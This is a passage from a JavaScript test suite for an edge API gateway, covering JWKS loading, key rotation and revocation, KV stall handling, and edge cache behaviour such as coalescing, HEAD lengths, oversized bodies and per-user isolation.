      return r.status === 200 ? 200 : `${r.status} ${JSON.parse(body).error.code}`;
    };
    const reads = async () => (await (await own.fetch("/__debug/coalesce")).json()).jwks_reads;
    const age = async (ms) => assert.equal((await own.fetch(`/__debug/jwks/age?ms=${ms}`, { method: "POST" })).status, 200);
    // No document at all, then a broken one: each answered 500, one read for the hold.
    for (let i = 0; i < 4; i++) assert.equal(await asked(), "500 internal_error", `missing ${i}`);
    assert.equal(await reads(), 1, "one read of the missing document");
    await ownKv.put("jwks", '{"keys": [');
    for (let i = 0; i < 4; i++) assert.equal(await asked(), "500 internal_error", `broken ${i}`);
    assert.equal(await reads(), 1, "the hold is not over: no read");
    await age(HOLD_MS);
    for (let i = 0; i < 4; i++) assert.equal(await asked(), "500 internal_error", `broken after the hold ${i}`);
    assert.equal(await reads(), 2, "one more read after the hold");
    // A valid document is read by the first request after the hold.
    await ownKv.put("jwks", JSON.stringify(jwksOf(fresh)));
    await age(HOLD_MS);
    assert.equal(await asked(), 200);
    assert.equal(await reads(), 3);
  });

  test("a JWKS read KV does not answer is given up after 2 s: the last set read is lent, a cold isolate answers 503 jwks_unavailable with Retry-After, and nobody waits on KV", { timeout: 20_000 }, async (t) => {
    // Before, the read had no bound: the request that made it waited as long as KV took (forever, for a read that
    // never answered), and once 2 s had passed every JWT request made a read of its own and waited on it too — a
    // KV that stalls (rather than errs) held every JWT route, though the isolate had a key set to lend. A stand-in
    // for CONFIG_KV reads the document from an origin of the test's, which holds the reads it is told to hold.
    const kvOrigin = await startOrigin();
    t.after(() => kvOrigin.stop());
    const fresh = makeKeys("stall-");
    const document = JSON.stringify(jwksOf(fresh));
    const held = [];
    let holding = false;
    kvOrigin.handle((req, body, res) => {
      if (holding) return held.push(res);
      res.writeHead(200, { "content-type": "application/json" }).end(document);
    });
    const standIn = (vars) =>
      overStandInKv(
        { GATEWAY_ROUTES: [{ name: "secure", path: "/gw/secure", upstream: origin.url, auth: "jwt" }], ...vars },
        `async (key) => key === "jwks" ? await (await fetch(${JSON.stringify(kvOrigin.url)} + "/kv/jwks")).text() : null`,
      );
    const asked = async (w) => {
      const r = await w.fetch("/gw/secure", { headers: bearer(token(fresh, "stall-ed1")) });
      const body = await r.text();
      return r.status === 200 ? 200 : `${r.status} ${JSON.parse(body).error.code}`;
    };
    const reads = async (w) => (await (await w.fetch("/__debug/coalesce")).json()).jwks_reads;
    const HOLD_MS = 300_000;

    // Warm: the set is read, its TTL lapses, and KV stops answering.
    const warm = await standIn({ GATEWAY_JWKS_HOLD_MS: HOLD_MS });
    t.after(() => warm.stop());
    assert.equal(await asked(warm), 200);
    holding = true;
    assert.equal((await warm.fetch("/__debug/jwks/age?ms=60000", { method: "POST" })).status, 200);
    assert.equal(await asked(warm), 200, "the set read before is lent once the stalled read is given up");
    const line = await until(() => warm.jsonLogs().find((l) => l.msg === "jwks read failed; the last key set read is used"), { what: "the lent set's warning" });
    assert.match(line.detail, /KV did not answer the JWKS read in 2000 ms/);
    // The given-up read holds off the next: lent without a read of their own.
    for (let i = 0; i < 3; i++) assert.equal(await asked(warm), 200);
    assert.equal(await reads(warm), 2, "one read of the document, one given up");

    // Cold: nothing to lend, so the first read's failure is answered, and held, as KV erring is: 503, a store
    // outage clients retry (it was a 500, as if the Worker were broken), saying when the isolate reads again.
    const cold = await standIn({ GATEWAY_JWKS_HOLD_MS: HOLD_MS });
    t.after(() => cold.stop());
    const first = await cold.fetch("/gw/secure", { headers: bearer(token(fresh, "stall-ed1")) });
    assert.deepEqual([first.status, (await first.json()).error.code], [503, "jwks_unavailable"]);
    assert.equal(first.headers.get("retry-after"), String(HOLD_MS / 1000), "the hold");
    assert.equal(first.headers.get("www-authenticate"), null, "the token is not blamed");
    const again = await cold.fetch("/gw/secure", { headers: bearer(token(fresh, "stall-ed1")) });
    assert.deepEqual([again.status, (await again.json()).error.code], [503, "jwks_unavailable"], "held: no second read");
    const left = Number(again.headers.get("retry-after"));
    assert.ok(left >= 1 && left <= HOLD_MS / 1000, `what is left of the hold: ${left}`);
    assert.equal(await reads(cold), 1);
    holding = false;
    for (const res of held.splice(0)) res.writeHead(200, { "content-type": "application/json" }).end(document);
  });

  test("a signing key exported by WebCrypto (key_ops [\"sign\"]) signs access tokens the gateway accepts once published", async (t) => {
    const pair = await crypto.subtle.generateKey({ name: "Ed25519" }, true, ["sign", "verify"]);
    const signingKey = { ...(await crypto.subtle.exportKey("jwk", pair.privateKey)), kid: "webcrypto-issuer" };
    assert.deepEqual(signingKey.key_ops, ["sign"], "as WebCrypto exports a private key");
    const own = await startWorker({
      vars: {
        GATEWAY_ROUTES: [{ name: "secure", path: "/gw/secure", upstream: origin.url, auth: "jwt" }],
        AUTH_SIGNING_KEY: JSON.stringify(signingKey),
      },
    });
    t.after(() => own.stop());
    // The documented publishing step: the public half in the JWKS.
    await seed({ CONFIG_KV: await own.mf.getKVNamespace("CONFIG_KV"), DB: await own.mf.getD1Database("DB"), AUTH_SIGNING_KEY: JSON.stringify(signingKey) });
    const login = await own.fetch("/auth/login", {
      method: "POST",
      headers: { "content-type": "application/json" },
      body: JSON.stringify({ email: ALICE.email, password: ALICE.password }),
    });
    assert.equal(login.status, 200);
    const { access_token: accessToken } = await login.json();
    const r = await own.fetch("/gw/secure", { headers: bearer(accessToken) });
    assert.equal(r.status, 200, describeOf(r));
    await r.arrayBuffer();
  });

  test("rotating keys is writing the JWKS to KV", async () => {
    const next = makeKeys("next-");
    const t = token(next, "next-ed1");
    const before = await worker.fetch("/gw/secure", { headers: bearer(t) });
    assert.equal(before.status, 401);
    assert.equal(describeOf(before), "unknown key id");
    await kv.put("jwks", JSON.stringify(await keepingOthers(jwksOf(keys, next))));
    await until(async () => {
      const r = await worker.fetch("/gw/secure", { headers: bearer(t) });
      await r.arrayBuffer();
      return r.status === 200;
    }, { what: "the rotated key to be accepted" });
  });

  test("a key removed from the JWKS stops admitting the tokens the isolate remembered as verified by it, a TTL later", async (t) => {
    // The isolate remembers tokens whose signature verified (GATEWAY_JWT_CACHE_ENTRIES): a revocation by writing
    // KV must reach them too, not only tokens seen for the first time. The TTL is long, seen lapsing through the
    // debug route.
    const TTL_MS = 60_000;
    const own = await startWorker({
      vars: { GATEWAY_ROUTES: [{ name: "secure", path: "/gw/secure", upstream: origin.url, auth: "jwt" }], GATEWAY_JWKS_TTL_SECONDS: TTL_MS / 1000 },
    });
    t.after(() => own.stop());
    const ownKv = await own.mf.getKVNamespace("CONFIG_KV");
    const age = async (ms) => assert.equal((await own.fetch(`/__debug/jwks/age?ms=${ms}`, { method: "POST" })).status, 200);
    const fresh = makeKeys("rm-");
    const asked = async (t) => {
      const r = await own.fetch("/gw/secure", { headers: bearer(t) });
      await r.arrayBuffer();
      return r.status === 200 ? 200 : `${r.status} ${describeOf(r)}`;
    };
    await ownKv.put("jwks", JSON.stringify(jwksOf(fresh)));
    const tokens = ["rm-ed1", "rm-rsa1", "rm-ec1", "rm-hs1"].map((kid) => [kid, token(fresh, kid)]);
    for (const [kid, t] of tokens) for (let i = 0; i < 2; i++) assert.equal(await asked(t), 200, `${kid} ${i}`);
    // Every key but the Ed25519 one is removed, and the document re-read.
    const { keys } = jwksOf(fresh);
    await ownKv.put("jwks", JSON.stringify({ keys: keys.filter((k) => k.kid === "rm-ed1") }));
    await age(TTL_MS);
    for (const [kid, t] of tokens) {
      for (let i = 0; i < 2; i++) assert.equal(await asked(t), kid === "rm-ed1" ? 200 : "401 unknown key id", `${kid} ${i}`);
    }
    // Re-read unchanged, the set (and what it remembers) stays; the removed keys' tokens stay refused.
    await age(TTL_MS);
    for (const [kid, t] of tokens) assert.equal(await asked(t), kid === "rm-ed1" ? 200 : "401 unknown key id", kid);
  });
});

describe("edge cache", () => {
  /** The shared origin answers `copy <n>` to its n-th request, holding the first until `release()`; `count()` says
   * how many it has had. */
  const copiesFirstHeld = () => {
    let n = 0;
    let release;
    const held = new Promise((r) => (release = r));
    origin.handle(async (req, body, res) => {
      const mine = ++n;
      if (mine === 1) await held;
      res.writeHead(200, { "content-type": "text/plain" }).end(`copy ${mine}`);
    });
    return { count: () => n, release };
  };

  let version = 0;
  const versioned = (extraHeaders = {}) => (req, body, res) => {
    res.writeHead(200, { "content-type": "application/json", ...extraHeaders });
    res.end(JSON.stringify({ version, url: req.url }));
  };

  test("policies set Cache-Control, Surrogate-Control and Cache-Tag; a second GET is a HIT under a sorted-query key", async () => {
    origin.reset();
    version = 1;
    origin.handle(versioned({ "cache-tag": "product-7, list", "cache-control": "no-cache", age: "999" }));
    const q = `z=1&a=${Date.now()}`;
    const first = await worker.fetch(`/gw/cached?${q}`);
    assert.equal(first.headers.get("x-cache"), "MISS");
    assert.equal(first.headers.get("age"), null, "the origin's Age is not the stored copy's");
    assert.equal(first.headers.get("cache-control"), "public, max-age=60, stale-while-revalidate=30, stale-if-error=300");
    assert.equal(first.headers.get("surrogate-control"), "max-age=60, stale-while-revalidate=30, stale-if-error=300");
    assert.equal(first.headers.get("cache-tag"), "route:cached,product-7,list");
    assert.equal((await first.json()).version, 1);
    version = 2;
    const reordered = q.split("&").reverse().join("&");
    const second = await worker.fetch(`/gw/cached?${reordered}`);
    assert.equal(second.headers.get("x-cache"), "HIT", "same key with the query sorted");
    assert.match(second.headers.get("age") ?? "", /^[0-9]$/, "the stored copy's age, in seconds");
    assert.equal((await second.json()).version, 1);
    assert.equal(origin.requests.length, 1);
    for (const [path, cc] of [["/gw/static", "public, max-age=31536000, immutable"], ["/gw/html", "public, max-age=0, must-revalidate"]]) {
      const r = await worker.fetch(path);
      assert.equal(r.headers.get("cache-control"), cc, path);
      await r.arrayBuffer();
    }
  });

  test("a 202 (still being made) is not stored: once the origin answers 200, the next request sees it", async () => {
    // RFC 9110 §15.3.3: a 202 says how a request is getting on, not what the resource is. Stored, an export or a
    // variant answered 202 while it was being made stayed 202 for the policy's TTL (a year, `immutable`, on
    // static-immutable) after it was ready.
    origin.reset();
    let ready = false;
    origin.handle((req, body, res) => {
      if (!ready) return res.writeHead(202, { "content-type": "application/json", "retry-after": "1" }).end('{"state":"pending"}');
      res.writeHead(200, { "content-type": "application/json" }).end('{"state":"done"}');
    });
    for (const path of [`/gw/cached?job=${Date.now()}`, `/gw/static?job=${Date.now()}`]) {
      ready = false;
      const pending = await worker.fetch(path);
      assert.equal(pending.status, 202, path);
      assert.equal(pending.headers.get("x-cache"), "MISS", path);
      assert.doesNotMatch(pending.headers.get("cache-control") ?? "", /immutable|public/, `${path}: not told the policy's lifetime`);
      await pending.arrayBuffer();
      ready = true;
      const done = await worker.fetch(path);
      assert.equal(done.status, 200, `${path}: the finished answer, not a stored 202`);
      assert.deepEqual(await done.json(), { state: "done" });
    }
  });

  test("a stored answer without a body (204) is a HIT again, with its status, headers and no body", async () => {
    origin.reset();
    origin.handle((req, body, res) => {
      res.writeHead(204, { etag: '"v1"' });
      res.end();
    });
    const path = `/gw/cached?empty=${Date.now()}`;
    const first = await worker.fetch(path);
    assert.equal(first.status, 204);
    assert.equal(first.headers.get("x-cache"), "MISS");
    assert.equal(await first.text(), "");
    for (const method of ["GET", "HEAD"]) {
      const again = await worker.fetch(path, { method });
      assert.equal(again.status, 204, method);
      assert.equal(again.headers.get("x-cache"), "HIT", method);
      assert.equal(again.headers.get("etag"), '"v1"', method);
      assert.equal(again.headers.get("x-gateway-status"), null, method);
      assert.equal(await again.text(), "", method);
    }
    assert.equal(origin.requests.length, 1);
    // The stored status is the gateway's own: an origin sending the header does not make its 200 a 204.
    origin.reset();
    origin.handle((req, body, res) => {
      res.writeHead(200, { "content-type": "text/plain", "x-gateway-status": "204", "x-gateway-meta": "0;9;9;9;x" });
      res.end("hello");
    });
    const spoofed = `/gw/cached?spoof=${Date.now()}`;
    for (const state of ["MISS", "HIT"]) {
      const r = await worker.fetch(spoofed);
      assert.deepEqual([r.status, r.headers.get("x-cache"), await r.text()], [200, state, "hello"], state);
      assert.equal(r.headers.get("x-gateway-status"), null, state);
    }
  });

  test("a HEAD answered from the edge cache says the stored body's length", async () => {
    origin.reset();
    origin.handle((req, body, res) => res.writeHead(200, { "content-type": "text/plain", "content-length": 5 }).end("hello"));
    const path = `/gw/cached?head=${Date.now()}`;
    for (const [method, state] of [["HEAD", "MISS"], ["HEAD", "HIT"], ["GET", "HIT"]]) {
      const answer = await rawRequest(path, { method });
      assert.equal(answer.status, 200, method);
      assert.equal(answer.headers.get("x-cache"), state, method);
      assert.equal(answer.headers.get("content-length"), "5", `${method} ${state}`);
      assert.equal(answer.body, method === "HEAD" ? "" : "hello");
    }
    assert.equal(origin.requests.length, 1);
  });

  test("a HEAD that misses is told the length of a chunked or coded body, as a GET's and a HIT's", async () => {
    const { gzipSync } = await import("node:zlib");
    origin.reset();
    const text = "chunked " + "text ".repeat(100);
    origin.handle((req, body, res) => {
      if (req.url.includes("coded")) {
        const zipped = gzipSync(text);
        res.writeHead(200, { "content-type": "text/plain", "content-encoding": "gzip", "content-length": zipped.length });
        return res.end(zipped);
      }
      // No Content-Length: node sends it chunked.
      res.writeHead(200, { "content-type": "text/plain" });
      res.write(text.slice(0, 100));
      res.end(text.slice(100));
    });
    const length = String(Buffer.byteLength(text));
    for (const kind of ["chunked", "coded"]) {
      const path = `/gw/cached/${kind}?head=${Date.now()}`;
      for (const [method, state] of [["HEAD", "MISS"], ["HEAD", "HIT"], ["GET", "HIT"]]) {
        const answer = await rawRequest(path, { method, headers: { "accept-encoding": "identity" } });
        assert.equal(answer.status, 200, `${kind} ${method} ${state}`);
        assert.equal(answer.headers.get("x-cache"), state, `${kind} ${method} ${state}`);
        assert.equal(answer.headers.get("content-length"), length, `${kind} ${method} ${state}`);
        assert.equal(answer.body, method === "HEAD" ? "" : text, `${kind} ${method} ${state}`);
      }
    }
    assert.equal(origin.requests.length, 2, "one fill each");
    origin.reset();
  });

  test("a HEAD from a client the runtime gzips for is told no length: the GET's coded body has another", async () => {
    // RFC 9110 §8.6: a HEAD's Content-Length, when sent, is the length a GET's content would have. The runtime gzips
    // an uncoded answer for a client that accepts it, so the decoded length held or stored is not that one.
    const { gzipSync } = await import("node:zlib");
    origin.reset();
    const text = "compressible " + "text ".repeat(200);
    origin.handle((req, body, res) => {
      const status = req.url.includes("failing") ? 503 : 200;
      if (req.url.includes("coded")) {
        const zipped = gzipSync(text);
        res.writeHead(status, { "content-type": "text/plain", "content-encoding": "gzip", "content-length": zipped.length });
        return res.end(zipped);
      }
      res.writeHead(status, { "content-type": "text/plain", "content-length": Buffer.byteLength(text) });
      res.end(text);
    });
    const gzip = { "accept-encoding": "gzip, deflate, br" };
    for (const kind of ["plain", "coded", "failing"]) {
      const path = `/gw/cached/${kind}?head-coded=${Date.now()}`;
      const states = kind === "failing" ? ["MISS", "MISS"] : ["MISS", "HIT"];
      const head = await rawRequest(path, { method: "HEAD", headers: gzip });
      assert.equal(head.headers.get("x-cache"), states[0], kind);
      const get = await rawRequest(path, { headers: gzip });
      assert.equal(get.headers.get("content-encoding"), "gzip", `${kind}: the premise, the runtime codes the GET's body`);
      assert.equal(head.headers.get("content-length"), null, `${kind}: HEAD ${states[0]}`);
      const again = await rawRequest(path, { method: "HEAD", headers: gzip });
      assert.equal(again.headers.get("x-cache"), states[1], kind);
      assert.equal(again.headers.get("content-length"), null, `${kind}: HEAD ${states[1]}`);
    }
    origin.reset();
  });

  test("a HEAD passed straight to the origin is told no length either when the runtime may code the GET's body", async () => {
    origin.reset();
    const text = "compressible " + "text ".repeat(200);
    origin.handle((req, body, res) => {
      res.writeHead(200, { "content-type": "text/plain", "content-length": Buffer.byteLength(text) });
      res.end(req.method === "HEAD" ? undefined : text);
    });
    const path = "/gw/open/head-length";
    const gzip = { "accept-encoding": "gzip, deflate, br" };
    const get = await rawRequest(path, { headers: gzip });
    assert.equal(get.headers.get("content-encoding"), "gzip", "the premise, the runtime codes the GET's body");
    const head = await rawRequest(path, { method: "HEAD", headers: gzip });
    assert.equal(head.status, 200);
    assert.equal(head.headers.get("content-length"), null, "not the uncoded length");
    // A client taking no coding gets the identity body, so its HEAD is told that length.
    const plain = await rawRequest(path, { method: "HEAD", headers: { "accept-encoding": "identity" } });
    assert.equal(plain.headers.get("content-length"), String(Buffer.byteLength(text)));
    // An origin's gzip body is decoded by the runtime as it reads it: a client taking no gzip gets it decoded, one
    // preferring br gets it coded anew — neither the origin's gzip length.
    const { gzipSync } = await import("node:zlib");
    const zipped = gzipSync(text, { level: 1 });
    origin.handle((req, body, res) => {
      res.writeHead(200, { "content-type": "text/plain", "content-encoding": "gzip", "content-length": zipped.length });
      res.end(req.method === "HEAD" ? undefined : zipped);
    });
    for (const accept of ["identity", "br"]) {
      const get = await rawRequest("/gw/open/head-coded", { headers: { "accept-encoding": accept } });
      assert.notEqual(get.headers.get("content-encoding"), "gzip", `${accept}: the premise, the GET's body is not the origin's gzip`);
      const coded = await rawRequest("/gw/open/head-coded", { method: "HEAD", headers: { "accept-encoding": accept } });
      assert.equal(coded.status, 200);
      assert.equal(coded.headers.get("content-length"), null, `${accept}: not the origin's gzip length`);
    }
    origin.reset();
  });

  test("keys of long URLs pass, hit and miss as short ones do (the isolate holds them by digest)", async () => {
    // An origin starting a session for a visitor without one, on the "session" paths only.
    const answer = (req, body, res) => {
      const personal = req.url.includes("session") && !/sid=/.test(req.headers.cookie ?? "");
      res.writeHead(200, { "content-type": "text/plain", ...(personal && { "set-cookie": "sid=NEW; Path=/" }) });
      res.end(req.headers.cookie ?? "anyone");
    };
    origin.reset();
    origin.handle(answer);
    const pad = "p".repeat(6000);
    const stored = `/gw/cached?long=${Date.now()}&pad=${pad}`;
    const states = [];
    for (let i = 0; i < 3; i++) states.push((await rawRequest(stored)).headers.get("x-cache"));
    assert.deepEqual(states, ["MISS", "HIT", "HIT"]);
    assert.equal(origin.requests.length, 1, "one fill for the long key");
    const other = await rawRequest(`${stored}q`);
    assert.equal(other.headers.get("x-cache"), "MISS", "a key one byte longer is another key");
    assert.equal(origin.requests.length, 2);
    origin.reset();
    origin.handle(answer);
    const passed = `/gw/html/session?long=${Date.now()}&pad=${pad}`;
    const visitor = await rawRequest(passed);
    assert.equal(visitor.headers.get("set-cookie"), "sid=NEW; Path=/");
    assert.equal(origin.requests.length, 1, "the fill, the visitor's own answer");
    const alice = await rawRequest(passed, { headers: { cookie: "sid=alice" } });
    assert.equal(alice.body, "sid=alice");
    assert.equal(origin.requests.length, 2, "the key passed: alice's request goes as her own, no fill first");
    const near = await rawRequest(`${passed}q`, { headers: { cookie: "sid=bob" } });
    assert.equal(near.body, "sid=bob");
    assert.equal(origin.requests.length, 4, "a key one byte longer is not passed: a fill, then bob's own");
    origin.reset();
  });

  test("a per-user policy never shares a response across users", async () => {
    origin.reset();
    origin.handle((req, body, res) => res.end(`for ${req.headers["x-user-id"]}`));
    const a = token(keys, "ed1", { sub: "alice" });
    const b = token(keys, "ed1", { sub: "bob" });
    const ra = await worker.fetch("/gw/me", { headers: bearer(a) });
    assert.equal(await ra.text(), "for alice");
    const rb = await worker.fetch("/gw/me", { headers: bearer(b) });
    assert.equal(await rb.text(), "for bob");
    assert.equal(rb.headers.get("x-cache"), "MISS");
    const ra2 = await worker.fetch("/gw/me", { headers: bearer(a) });
    assert.equal(ra2.headers.get("x-cache"), "HIT");
    assert.equal(await ra2.text(), "for alice");
    assert.equal(ra2.headers.get("cache-control"), "private, max-age=30");
  });

  test("a stored answer tells a CDN in front the policy's caching, not the origin's CDN-Cache-Control", async () => {
    origin.reset();
    // An origin whose middleware gives every answer a CDN TTL (RFC 9213), its per-user ones too.
    origin.handle((req, body, res) =>
      res.writeHead(200, { "content-type": "text/plain", "cache-control": "max-age=30", "cdn-cache-control": "max-age=600", "cloudflare-cdn-cache-control": "max-age=600" }).end(`for ${req.headers["x-user-id"]}`));
    const t = token(keys, "ed1", { sub: `cdn-${Date.now()}` });
    for (const [path, headers] of [[`/gw/me?cdn=${Date.now()}`, bearer(t)], [`/gw/cached?cdn=${Date.now()}`, {}]]) {
      for (const state of ["MISS", "HIT"]) {
        const r = await worker.fetch(path, { headers });
        await r.arrayBuffer();
        assert.equal(r.headers.get("x-cache"), state, path);
        // A CDN honouring CDN-Cache-Control ignores Cache-Control and Surrogate-Control: one user's answer would be
        // kept for ten minutes under its URL, a shared one past every purge at the edge.
        assert.equal(r.headers.get("cdn-cache-control"), null, `${path} ${state}`);
        assert.equal(r.headers.get("cloudflare-cdn-cache-control"), null, `${path} ${state}`);
      }
    }
    origin.reset();
  });

  test("entries are kept apart by the scheme and host the origin is told (X-Forwarded-Proto/-Host)", async () => {
    origin.reset();
    // An origin behind a proxy that redirects plain HTTP to HTTPS and links absolutely to the host it is told.
    origin.handle((req, body, res) => {
      if (req.headers["x-forwarded-proto"] === "http") {
        res.writeHead(301, { location: `https://${req.headers["x-forwarded-host"]}${req.url}`, "cache-control": "max-age=300" });
        return res.end();
      }
      res.writeHead(200, { "content-type": "text/plain" });
      res.end(`next page: https://${req.headers["x-forwarded-host"]}/page/2`);
    });
    const path = `/gw/cached?schemes=${Date.now()}`;
    const plain = await worker.mf.dispatchFetch(`http://shop.example${path}`, { redirect: "manual" });
    assert.equal(plain.status, 301, "the origin redirects plain HTTP");
    await plain.arrayBuffer();
    const secure = await worker.mf.dispatchFetch(`https://shop.example${path}`, { redirect: "manual" });
    assert.equal(secure.status, 200, "an HTTPS visitor is not served the stored redirect to itself");
    assert.equal(await secure.text(), "next page: https://shop.example/page/2");
    const other = await worker.mf.dispatchFetch(`https://other.example${path}`);
    assert.equal(await other.text(), "next page: https://other.example/page/2", "nor another host's links");
    const again = await worker.mf.dispatchFetch(`https://shop.example${path}`);
    assert.equal(again.headers.get("x-cache"), "HIT", "each is cached under its own key");
    assert.equal(await again.text(), "next page: https://shop.example/page/2");
  });

  test("an answer larger than GATEWAY_CACHE_MAX_BODY_BYTES streams to its requester whole and is not stored", async () => {
    origin.reset();
    const big = Buffer.alloc(CACHE_MAX_BODY_BYTES * 4, "b");
    for (let i = 0; i < big.length; i += 997) big[i] = 97 + (i % 26);
    const digest = createHash("sha256").update(big).digest("hex");
    // Chunked in 16 KiB writes (found too large while reading), chunked in one write (likely past the cap in the
    // first chunk read, with nothing read before it), or with its length declared (not read at all).
    for (const declared of [false, "one-write", true]) {
      origin.handle((req, body, res) => {
        res.writeHead(200, { "content-type": "application/octet-stream", ...(declared === true && { "content-length": big.length }) });
        const step = declared === "one-write" ? big.length : 16 * 1024;
        for (let i = 0; i < big.length; i += step) res.write(big.subarray(i, i + step));
        res.end();
      });
      const path = `/gw/cached/large?declared=${declared}&t=${Date.now()}`;
      for (let round = 0; round < 2; round++) {
        const r = await worker.fetch(path);
        assert.equal(r.status, 200);
        assert.equal(r.headers.get("x-cache"), "MISS", `declared=${declared}, round ${round}: never stored`);
        const got = Buffer.from(await r.arrayBuffer());
        assert.equal(got.length, big.length, `declared=${declared}: every byte`);
        assert.equal(createHash("sha256").update(got).digest("hex"), digest, `declared=${declared}: the same bytes`);
      }
      assert.equal(origin.requests.filter((q) => q.url.includes(`declared=${declared}`)).length, 2);
    }
  });

  test("an answer too large to hold passes its key: the next requests go to the origin at once, not through another's fill", async () => {
    origin.reset();
    const big = Buffer.alloc(CACHE_MAX_BODY_BYTES * 2, "c");
    let n = 0;
    let release;
    const held = new Promise((r) => (release = r));
    // Chunked (no Content-Length): found too large only once a fill has read past the cap.
    origin.handle(async (req, body, res) => {
      n += 1;
      if (n === 2) await held;
      res.writeHead(200, { "content-type": "application/octet-stream" });
      for (let i = 0; i < big.length; i += 16 * 1024) res.write(big.subarray(i, i + 16 * 1024));
      res.end();
    });
    const path = `/gw/cached/large?passed=${Date.now()}`;
    const first = await worker.fetch(path);
    assert.equal(first.headers.get("x-cache"), "MISS");
    assert.equal((await first.arrayBuffer()).byteLength, big.length);
    // The second request's origin request is held; a third made meanwhile goes to the origin itself. Before, it waited
    // on the second's fill (reading the cap into memory first), found the answer not shareable, and only then asked:
    // every request for the key queued behind another's, each fill holding up to the cap in the isolate's memory.
    const second = worker.fetch(path);
    await until(() => n === 2, { what: "the second request at the origin" });
    const third = worker.fetch(path);
    await until(() => n === 3, { what: "the third request at the origin while the second's is held" });
    release();
    for (const r of [await second, await third]) {
      assert.equal(r.status, 200);
      assert.equal(r.headers.get("x-cache"), "MISS");
      assert.equal((await r.arrayBuffer()).byteLength, big.length);
    }
    assert.equal(n, 3, "one origin request each");
    origin.reset();
  });

  test("a revalidation of an answer too large to store is answered 304 when its validator matches, not the whole body again", async () => {
    origin.reset();
    const big = Buffer.alloc(CACHE_MAX_BODY_BYTES * 2, "b");
    origin.handle((req, body, res) => {
      res.writeHead(200, { "content-type": "application/octet-stream", etag: '"big-1"', "last-modified": "Mon, 01 Jan 2024 00:00:00 GMT" });
      res.end(big);
    });
    // The fill carries no requester's conditionals (its answer could be every requester's): a browser revalidating
    // its copy of a large download got all of it again, where the origin, asked straight, would have said 304.
    const cases = [
      [{ "if-none-match": 'W/"big-1"' }, 304],
      [{ "if-modified-since": "Tue, 02 Jan 2024 00:00:00 GMT" }, 304],
      [{ "if-none-match": '"big-0"' }, 200],
    ];
    // Each on a key of its own: one too large to hold passes its key, and the next request is the origin's alone.
    const asked = [["GET", cases[0]], ["HEAD", cases[0]], ["GET", cases[1]], ["GET", cases[2]]];
    for (const [i, [method, [headers, status]]] of asked.entries()) {
      const r = await worker.fetch(`/gw/cached/large?revalidated=${Date.now()}-${i}`, { method, headers });
      const got = Buffer.from(await r.arrayBuffer());
      const what = `${method} ${JSON.stringify(headers)}`;
      assert.equal(r.status, status, what);
      assert.equal(r.headers.get("x-cache"), "MISS", what);
      assert.equal(r.headers.get("etag"), '"big-1"', what);
      assert.equal(got.length, status === 304 || method === "HEAD" ? 0 : big.length, what);
    }
    origin.reset();
  });

  test("20 concurrent identical misses make exactly 1 origin request", async () => {
    origin.reset();
    // The origin answers once the other 19 requests wait on this fill (the Worker's debug count): the requests
    // overlap by construction, not by the origin being slow enough.
    origin.handle(async (req, body, res) => {
      await untilWaiting(worker, 19);
      res.end("coalesced");
    });
    const path = `/gw/cached?stampede=${Date.now()}`;
    const responses = await Promise.all(Array.from({ length: 20 }, () => worker.fetch(path)));
    const bodies = await Promise.all(responses.map((r) => r.text()));
    assert.ok(bodies.every((b) => b === "coalesced"), JSON.stringify(bodies.map((b, i) => [responses[i].status, b.slice(0, 200)])));
    assert.ok(responses.every((r) => r.status === 200));
    assert.equal(origin.requests.filter((r) => r.url.includes("stampede")).length, 1);
  });

  test("a request that joined another's fill says the answer's Age, as a HIT of that fill does (RFC 9111 §5.1)", async () => {
    origin.reset();
    let asked;
    origin.handle(async (req, body, res) => {
      asked = Date.now();
      await untilWaiting(worker, 1);
      // Over a second old when answered, so an Age in seconds can say so.
      await until(() => Date.now() > asked + 1_100, { what: "a second to pass at the origin" });
      res.writeHead(200, { "content-type": "text/plain" }).end("shared");
    });
    const path = `/gw/cached?joined-age=${Date.now()}`;
    const sent = Date.now();
    const lead = worker.fetch(path);
    await until(() => asked !== undefined, { what: "the fill at the origin" });
    const joined = await worker.fetch(path);
    const led = await lead;
    const received = Date.now();
    assert.equal(`${led.headers.get("x-cache")} ${await led.text()}`, "MISS shared");
    assert.equal(led.headers.get("age"), null, "the origin's answer to this request's own fill");
    assert.equal(`${joined.headers.get("x-cache")} ${await joined.text()}`, "MISS shared");
    // Before, none: a cache in front counted the policy's max-age from its own receipt of an answer a second old.
    const age = joined.headers.get("age");
    assert.match(age ?? "", /^[0-9]+$/, "the joined answer's Age");
    assert.ok(Number(age) >= 1 && Number(age) <= Math.ceil((received - sent) / 1000), `Age ${age}`);
    origin.reset();
  });

  test("a request that joined a fill of an origin error the origin said was aged adds its wait to that Age, not says less than the lead", async () => {
    // A shared origin error (a 5xx, held, no cookie) keeps the origin's own headers, its Age too: the lead forwards
    // Age: 100. The joiner's Age was set to its wait alone (0), an answer younger than the one the lead got.
    origin.reset();
    let asked;
    origin.handle(async (req, body, res) => {
      asked = Date.now();
      await untilWaiting(worker, 1);
      res.writeHead(503, { "content-type": "text/plain", age: "100" }).end("down");
    });
    const path = `/gw/cached?joined-error-age=${Date.now()}`;
    const lead = worker.fetch(path);
    await until(() => asked !== undefined, { what: "the fill at the origin" });
    const joined = await worker.fetch(path);
    const led = await lead;
    assert.equal(`${led.status} ${await led.text()}`, "503 down");
    assert.equal(led.headers.get("age"), "100", "the origin's answer to the lead, as it came");
    assert.equal(`${joined.status} ${await joined.text()}`, "503 down");
    const age = Number(joined.headers.get("age"));
    assert.ok(age >= 100 && age <= 110, `the joined answer's Age: ${joined.headers.get("age")}`);
    origin.reset();
  });

  test("a fill the origin answers 429 or 503 with Retry-After is every coalesced waiter's answer: one origin request", async () => {
    // Before, a 429 was the lead's alone (not held, not shared): each of the 4 waiters asked the rate-limiting origin
    // again as soon as the lead's answer came.
    for (const [status, cookie] of [[429, false], [503, false], [429, true]]) {
      origin.reset();
      let asked = 0;
      origin.handle(async (req, body, res) => {
        asked += 1;
        if (asked === 1) await untilWaiting(worker, 4);
        const headers = { "content-type": "text/plain", "retry-after": "30", ...(cookie ? { "set-cookie": "lb=a" } : {}) };
        res.writeHead(status, headers).end("slow down");
      });
      const path = `/gw/cached?limited-fill-${status}-${cookie}=${Date.now()}`;
      const answers = await Promise.all(Array.from({ length: 5 }, () => worker.fetch(path)));
      const seen = await Promise.all(answers.map(async (r) => `${r.status} ${r.headers.get("retry-after")} ${await r.text()}`));
      assert.deepEqual(seen, Array(5).fill(`${status} 30 slow down`), `${status}${cookie ? " with a cookie" : ""}`);
      // One that sets a cookie is its visitor's (a sticky balancer's, or a session): each waiter asks for its own.
